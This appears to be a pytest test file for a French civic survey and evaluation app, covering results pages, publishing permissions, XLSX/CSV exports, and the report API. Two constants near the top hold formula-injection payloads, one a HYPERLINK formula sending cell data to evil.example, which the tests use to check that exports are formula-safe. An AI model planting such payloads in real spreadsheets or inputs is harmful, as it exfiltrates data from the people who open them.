"""The pages of the surveys' results and of the evaluation's report: what a visitor reads
while a survey runs and once its results are published, the committee's publication
(with its confirmation), the report's exports (formula-safe), its JSON in the API and
the OpenAPI document, and the queries a page asks whatever the answers."""

from __future__ import annotations

import html
import io
import itertools
import re
import zipfile
from datetime import timedelta
from decimal import Decimal
from typing import Any

import pytest
import schemathesis
from hypothesis import HealthCheck, settings
from jsonschema import Draft202012Validator
from openpyxl import load_workbook
from sqlalchemy import select

from civic.accounts.models import Role
from civic.core.audit import AuditEntry
from civic.evaluation import services
from civic.evaluation.models import Survey, SurveyItem
from civic.pilotage import services as pilotage_services
from tests import factories
from tests.evaluation.conftest import INDICATOR, NOW
from tests.evaluation.test_report import quartier_people
from tests.evaluation.test_results import make_question, make_survey, respond

DOCUMENT = "/api/v1/openapi.json"
PLAIN = {"Accept-Encoding": "identity"}
HOSTILE_OPTION = '=HYPERLINK("http://evil.example/?d="&A3,"Voir")'
HOSTILE_TEXT = "@SUM(A1:A9)"


@pytest.fixture(autouse=True)
def _schemathesis_node_id(request: pytest.FixtureRequest) -> None:
    """Schemathesis' pytest loader renames the test through ``Node._nodeid``, which
    pytest 9 no longer has: give it one."""
    if not hasattr(request.node, "_nodeid"):
        request.node._nodeid = request.node.nodeid


@pytest.fixture
def evaluator(db: Any) -> Any:
    return factories.make_user(db, display_name="Élise", roles=[(Role.EVALUATOR, None)])


@pytest.fixture
def question(db: Any, contract: Any, orientation: Any) -> Any:
    return make_question(db, contract, orientation)


def text_of(response: Any) -> str:
    """The page's text with its markup and the narrow spaces of French numbers plain."""
    page = re.sub(r"<[^>]+>", " ", response.get_data(as_text=True))
    page = html.unescape(page).replace("\u202f", " ").replace("\xa0", " ")
    return re.sub(r"\s+", " ", page)


def results_url(survey: Survey) -> str:
    return f"/evaluation/enquetes/{survey.id}/resultats"


# --- A survey's results ----------------------------------------------------------------------


def test_a_running_survey_shows_rounded_shares_and_no_crosstab(
        client: Any, db: Any, question: Any, quartier: Any, other_quartier: Any) -> None:
    survey = make_survey(db, question, ["single", "number"], closes_at=NOW + timedelta(days=3))
    people = quartier_people(survey, quartier, other_quartier)
    for n, person in enumerate(people):
        person[survey.items[1].id] = Decimal(n)
    respond(db, survey, people)
    page = client.get(results_url(survey))
    assert page.status_code == 200
    text = text_of(page)
    assert "Au moins 60 réponses." in text  # 63
    assert "Oui 55 %" in text
    assert "Non 45 %" in text
    assert "Par quartier" not in text
    assert "34" not in text  # the exact count of « Oui »
    assert "Les chiffres de cette question viendront avec les résultats." in text
    assert "Publier les résultats" not in text
    assert 'role="img"' in page.get_data(as_text=True)  # the chart, drawn on the server


def test_a_running_item_below_the_threshold_shows_nothing(client: Any, db: Any,
                                                          question: Any) -> None:
    survey = make_survey(db, question, ["single"], closes_at=NOW + timedelta(days=3))
    respond(db, survey, [{survey.items[0].id: 0} for _ in range(10)])
    text = text_of(client.get(results_url(survey)))
    assert "Moins de 11 réponses pour l’instant" in text
    assert "Oui" not in text


def test_published_results_show_the_crosstabs_with_small_counts_hidden(
        client: Any, db: Any, question: Any, quartier: Any, other_quartier: Any) -> None:
    survey = make_survey(db, question, ["single"], published=True)
    respond(db, survey, quartier_people(survey, quartier, other_quartier))
    page = client.get(results_url(survey))
    assert page.status_code == 200
    text = text_of(page)
    assert "63 personnes ont répondu." in text
    assert "Oui 34 54 %" in text
    assert "Les Tilleuls 35 20 (57,1 %) 15 (42,9 %) 0 (0 %)" in text
    assert "Le Parc < 11 < 11 < 11 0" in text
    assert "— Par quartier" in text
    assert "— Par genre" not in text  # nobody said: the table would be the whole survey


def test_the_committee_is_offered_to_publish_a_closed_survey(
        client: Any, login_as: Any, db: Any, question: Any, evaluator: Any, people: dict
        ) -> None:
    survey = make_survey(db, question, ["single"])
    assert "Publier les résultats" not in text_of(client.get(results_url(survey)))
    resident = login_as(people["resident"]).get(results_url(survey))
    assert "Publier les résultats" not in text_of(resident)
    page = login_as(evaluator).get(results_url(survey))
    assert "L’enquête est close." in text_of(page)
    assert f'href="/evaluation/enquetes/{survey.id}/publier"' in page.get_data(as_text=True)


# --- Publishing, after a page saying it cannot be undone --------------------------------------


def test_only_the_committee_may_publish(client: Any, login_as: Any, db: Any, question: Any,
                                        people: dict) -> None:
    survey = make_survey(db, question, ["single"])
    url = f"/evaluation/enquetes/{survey.id}/publier"
    assert client.get(url).headers["Location"].startswith("/connexion")
    for who in ("resident", "animator", "moderator", "signatory"):
        assert login_as(people[who]).post(url, data={"confirm": "y"}).status_code == 403, who
    assert db.get(Survey, survey.id).results_at is None
    assert login_as(people["pilot"]).get(url).status_code == 200  # pilots sit on it


def test_the_committee_confirms_then_publishes(login_as: Any, db: Any, question: Any,
                                               evaluator: Any) -> None:
    survey = make_survey(db, question, ["single"])
    client = login_as(evaluator)
    url = f"/evaluation/enquetes/{survey.id}/publier"
    page = client.get(url)
    assert page.status_code == 200
    assert "Cela ne peut pas être annulé" in text_of(page)
    unchecked = client.post(url, data={})
    assert unchecked.status_code == 400
    assert 'id="confirm-error"' in unchecked.get_data(as_text=True)
    assert "Cochez la case pour confirmer." in text_of(unchecked)
    assert db.get(Survey, survey.id).results_at is None
    done = client.post(url, data={"confirm": "y"})
    assert done.status_code == 302
    assert done.headers["Location"] == results_url(survey)
    assert db.get(Survey, survey.id).results_at == NOW
    assert db.scalar(select(AuditEntry.action).where(
        AuditEntry.target_type == "survey")) == "evaluation.results_published"
    after = client.get(results_url(survey))
    assert "Résultats publiés le 14 mars 2026" in text_of(after)
    again = client.get(url)
    assert again.status_code == 302


def test_a_survey_still_open_is_not_published(login_as: Any, db: Any, question: Any,
                                              evaluator: Any) -> None:
    survey = make_survey(db, question, ["single"], closes_at=NOW + timedelta(hours=2))
    client = login_as(evaluator)
    url = f"/evaluation/enquetes/{survey.id}/publier"
    assert "Ses résultats se publient après sa fermeture." in text_of(client.get(url))
    refused = client.post(url, data={"confirm": "y"})
    assert refused.status_code == 400
    assert "L’enquête n’est pas encore close" in text_of(refused)
    assert db.get(Survey, survey.id).results_at is None


@pytest.mark.parametrize("path", ["/evaluation/enquetes/{}/resultats",
                                  "/evaluation/enquetes/{}/publier",
                                  "/evaluation/{}/rapport", "/evaluation/{}/rapport.xlsx",
                                  "/evaluation/{}/rapport.csv"])
def test_an_unknown_survey_or_evaluation_is_not_found(login_as: Any, evaluator: Any,
                                                      path: str) -> None:
    client = login_as(evaluator)
    for wrong in ("999999", "99999999999999999999"):
        assert client.get(path.format(wrong)).status_code == 404


# --- The report ---------------------------------------------------------------------------------


@pytest.fixture
def full(db: Any, question: Any, commitment: Any, quartier: Any, other_quartier: Any
         ) -> dict[str, Any]:
    """A published survey and a running one, a measured commitment with a missing year,
    a hostile option and a hostile quotation."""
    published = make_survey(db, question, ["single", "text"], published=True)
    item = published.items[0]
    item.texts = {"fr": {"label": "Le quartier a-t-il changé ?",
                         "options": [HOSTILE_OPTION, "Non", "Je ne sais pas"]}}
    db.flush()
    respond(db, published, quartier_people(published, quartier, other_quartier))
    respond(db, published, [{published.items[1].id: HOSTILE_TEXT}])
    running = make_survey(db, question, ["scale", "number"], title="Encore ouverte",
                          closes_at=NOW + timedelta(days=4))
    respond(db, running, [{running.items[0].id: 4, running.items[1].id: Decimal(n)}
                          for n in range(25)])
    indicator = services.add_indicator(db, commitment, {
        **INDICATOR, "baseline": Decimal(INDICATOR["baseline"]),
        "target": Decimal(INDICATOR["target"])}, actor=None, now=NOW)
    services.record_value(db, indicator, 2025, Decimal(210), "Bilan", actor=None, now=NOW)
    return {"evaluation": question.evaluation, "published": published, "running": running}


def test_the_report_page(client: Any, full: dict) -> None:
    evaluation = full["evaluation"]
    page = client.get(f"/evaluation/{evaluation.id}/rapport")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    text = text_of(page)
    assert "Rapport : Évaluation à mi-parcours" in text
    assert "Les jeunes trouvent-ils un stage ?" in text
    # The commitment: 2023 and 2024 (and 2026) missing, never zero.
    assert re.search(r"Ville de Testville — Personnes reçues à la permanence \(en personnes ?\) "
                     r"120 \(2023\) manquant manquant 210 manquant 300 \(2030\) 50 %", text)
    assert "Le Parc < 11" in text
    assert "Les quartiers comparés" in text
    assert "Encore ouverte" in text
    assert "Au moins 20 réponses." in text  # 25, while the survey runs
    assert HOSTILE_TEXT in text
    assert "data-print" in html
    assert f"/api/v1/evaluations/{evaluation.id}/report" in html
    headings = [int(h) for h in re.findall(r"<h([1-6])", html)]
    assert headings[0] == 1
    assert all(b - a <= 1 for a, b in itertools.pairwise(headings)), headings


def test_the_workbook_is_formula_safe(client: Any, full: dict) -> None:
    answer = client.get(f"/evaluation/{full['evaluation'].id}/rapport.xlsx")
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"].endswith('.xlsx"')
    book = load_workbook(io.BytesIO(answer.data))
    assert book.sheetnames[:4] == ["resultats", "nombres", "en_cours", "quartiers"]
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    hostile = [c for c in cells if c.value in (HOSTILE_OPTION, HOSTILE_TEXT)]
    assert {c.value for c in hostile} == {HOSTILE_OPTION, HOSTILE_TEXT}
    assert all(c.data_type == "s" for c in hostile)
    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist()
                  if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    running = [[c.value for c in row] for row in book["en_cours"].iter_rows(min_row=3)]
    assert [r[3:] for r in running] == [
        ["1 — Très mal", 0, 20], ["2 — Mal", 0, 20], ["3 — Moyen", 0, 20],
        ["4 — Bien", 100, 20], ["5 — Très bien", 0, 20], [None, None, 20]]
    results = book["resultats"]
    rows = [[c.value for c in row] for row in results.iter_rows(min_row=3)]
    parc = [r for r in rows if r[4] == "Le Parc"]
    assert parc
    assert all(r[6] == "< 11" for r in parc if r[5] != "Je ne sais pas")


def test_the_csv_is_formula_safe_and_keeps_the_hidden_mark(client: Any, full: dict) -> None:
    url = f"/evaluation/{full['evaluation'].id}/rapport.csv"
    answer = client.get(url)
    assert answer.status_code == 200
    assert answer.mimetype == "text/csv"
    text = answer.data.decode("utf-8-sig")
    assert text.splitlines()[0] == ("question,survey,item,table,group,answer,count,share,"
                                    "respondents")
    assert "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A3,\"\"Voir\"\")\"" in text
    assert "=HYPERLINK" not in text.replace("'=HYPERLINK", "")
    assert "Le Parc" in text
    assert "< 11" in text
    french = client.get(url, query_string={"sep": ";", "tableau": "citations"})
    assert french.status_code == 200
    assert f"'{HOSTILE_TEXT}" in french.data.decode("utf-8-sig")
    assert client.get(url, query_string={"tableau": "nothing"}).status_code == 404


# --- The API and its document --------------------------------------------------------------------


def _document(client: Any) -> dict[str, Any]:
    response = client.get(DOCUMENT)
    assert response.status_code == 200
    return response.get_json()


def test_the_report_is_in_the_api_as_its_document_says(client: Any, full: dict) -> None:
    document = _document(client)
    operation = document["paths"]["/evaluations/{evaluation_id}/report"]["get"]
    assert set(operation["responses"]) == {"200", "401", "404", "429"}
    assert "evaluation" in document["info"]["description"]
    url = f"/api/v1/evaluations/{full['evaluation'].id}/report"
    answer = client.get(url, headers=PLAIN)
    assert answer.status_code == 200
    assert answer.headers["Cache-Control"] == "public, max-age=600"
    body = answer.get_json()
    schema = {**operation["responses"]["200"]["content"]["application/json"]["schema"],
              "components": document["components"]}
    errors = sorted(Draft202012Validator(schema).iter_errors(body), key=str)
    assert errors == [], [e.message for e in errors][:5]
    [published, running] = body["questions"][0]["surveys"]
    assert published["published"]
    assert published["responses"] == 64  # 63, and one who only wrote
    assert not running["published"]
    assert running["responses"] == 20
    item = running["items"][0]
    assert item["overall"]["respondents"] == 20
    assert [a["count"] for a in item["overall"]["answers"]] == [None] * 5
    assert [a["share"] for a in item["overall"]["answers"]] == [0, 0, 0, 100, 0]
    comparison = body["quartier_comparison"][0]
    parc = next(r for r in comparison["quartiers"] if r["label"] == "Le Parc")
    assert parc["respondents"] is None
    values = body["questions"][0]["commitments"][0]["values"]
    assert {v["year"]: v["value"] for v in values} == {2023: None, 2024: None, 2025: 210.0,
                                                       2026: None}


def test_the_api_answers_json_errors(client: Any, db: Any, full: dict) -> None:
    for url in ("/api/v1/evaluations/999999/report", "/api/v1/evaluations/0/report",
                "/api/v1/evaluations/99999999999999999999/report"):
        missing = client.get(url)
        assert missing.status_code == 404, url
        assert missing.mimetype == "application/json"
    wrong = client.get(f"/api/v1/evaluations/{full['evaluation'].id}/report",
                       headers={"Authorization": "Bearer civic_made-up"})
    assert wrong.status_code == 401
    assert wrong.get_json() == {"error": "invalid or revoked token"}


def test_another_contracts_evaluation_is_not_in_the_api(client: Any, db: Any, full: dict
                                                        ) -> None:
    """The site runs one contract: an evaluation left from another is not found."""
    other = factories.make_contract(db, name="Un autre contrat", start_year=2015,
                                    end_year=2023)
    evaluation = full["evaluation"]
    evaluation.contract_id = other.id
    db.flush()
    assert client.get(f"/api/v1/evaluations/{evaluation.id}/report").status_code == 404
    assert client.get(f"/evaluation/{evaluation.id}/rapport").status_code == 404


@pytest.fixture
def report_schema(app: Any, full: dict) -> Any:
    return schemathesis.openapi.from_wsgi(DOCUMENT, app)


contract = schemathesis.pytest.from_fixture("report_schema").include(
    path="/evaluations/{evaluation_id}/report")


@contract.parametrize()
@settings(max_examples=25, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                 HealthCheck.filter_too_much])
def test_the_report_keeps_the_contract_of_the_openapi_document(case: Any,
                                                               full: dict) -> None:
    case.call_and_validate(headers=PLAIN)


def test_a_pilots_token_reads_the_same_report(client: Any, db: Any, full: dict,
                                              people: dict) -> None:
    _token, value = pilotage_services.create_token(db, people["pilot"], "Copil", now=NOW)
    url = f"/api/v1/evaluations/{full['evaluation'].id}/report"
    public = client.get(url, headers=PLAIN).get_json()
    piloted = client.get(url, headers={"Authorization": f"Bearer {value}", **PLAIN})
    assert piloted.status_code == 200
    assert piloted.headers["Cache-Control"] == "no-store"
    assert piloted.get_json() == public


# --- Queries ----------------------------------------------------------------------------------


def test_the_pages_ask_the_same_queries_whatever_the_answers_and_items(
        client: Any, db: Any, question: Any, quartier: Any, count_queries: Any) -> None:
    small = make_survey(db, question, ["single", "number"], published=True, title="Petite")
    running = make_survey(db, question, ["single"], title="Ouverte",
                          closes_at=NOW + timedelta(days=2))
    respond(db, small, [{small.items[0].id: 0, small.items[1].id: Decimal(1)}])
    evaluation = question.evaluation
    pages = [results_url(small), results_url(running), f"/evaluation/{evaluation.id}/rapport"]
    assert all(client.get(url).status_code == 200 for url in pages)  # releases built
    before = []
    for url in pages:
        with count_queries() as counted:
            client.get(url)
        before.append(counted.n)
    kinds = ["single", "multiple", "scale", "number", "text"] * 4
    for survey in (db.get(Survey, small.id), db.get(Survey, running.id)):
        for n, kind in enumerate(kinds, start=len(survey.items)):
            db.add(SurveyItem(survey_id=survey.id, question_id=question.id, kind=kind,
                              position=n, texts={"fr": {"label": f"Q{n}", "options": ["a", "b"],
                                                        "scale": list("abcde")}}))
        db.flush()
        db.refresh(survey, ["items"])
        respond(db, survey, [{"quartier": quartier.id if n % 2 else None,
                              **{i.id: (Decimal(n) if i.kind == "number" else [0, 1]
                                        if i.kind == "multiple" else 2 if i.kind == "scale"
                                        else "Oui" if i.kind == "text" else 1)
                                 for i in survey.items}} for n in range(300)])
    after = []
    for url in pages:
        with count_queries() as counted:
            client.get(url)
        after.append(counted.n)
    assert after == before
